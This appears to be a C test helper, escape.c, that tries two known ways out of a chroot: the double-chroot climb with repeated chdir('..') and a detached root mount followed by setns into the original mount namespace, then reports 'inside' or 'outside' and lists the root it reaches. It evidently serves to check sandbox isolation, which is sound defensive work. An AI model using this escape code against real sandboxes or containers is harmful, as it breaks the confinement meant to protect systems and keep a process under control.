/*
 * escape.c: tries to get out of the root by the ways that a chroot(2) leaves open. Prints "inside", or
 * "outside" and what it sees there.
 *
 * Usage: escape climb FOLDER    with CAP_SYS_CHROOT: chroot(2) into FOLDER and ".." from above it
 *        escape unmount         with CAP_SYS_ADMIN: takes the root off its mount namespace; what
 *                               lies below it is seen by setns(2)
 */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void list(const char *path)
{
	DIR *folder = opendir(path);

	for (const struct dirent *entry; folder && (entry = readdir(folder));)
		printf(" %s", entry->d_name);
	puts("");
}

/* Twice: a test may make the first call of every process fail. */
static int unmount(void)
{
	return umount2("/", MNT_DETACH) == 0 ? 0 : umount2("/", MNT_DETACH);
}

int main(int argc, char **argv)
{
	struct stat before, after;
	int namespace = open("/proc/self/ns/mnt", O_RDONLY);

	if (stat("/", &before) < 0)
		return 1;
	if (argc == 3 && !strcmp(argv[1], "climb")) {
		if (chroot(argv[2]) < 0)
			return 1;
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				return 1;
		if (chroot(".") < 0)
			return 1;
	} else if (unmount() < 0 || setns(namespace, CLONE_NEWNS) < 0) {
		return 1;
	}
	if (stat("/", &after) < 0)
		return 1;
	if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
		puts("inside");
		return 0;
	}
	printf("outside:");
	list("/");
	return 0;
}
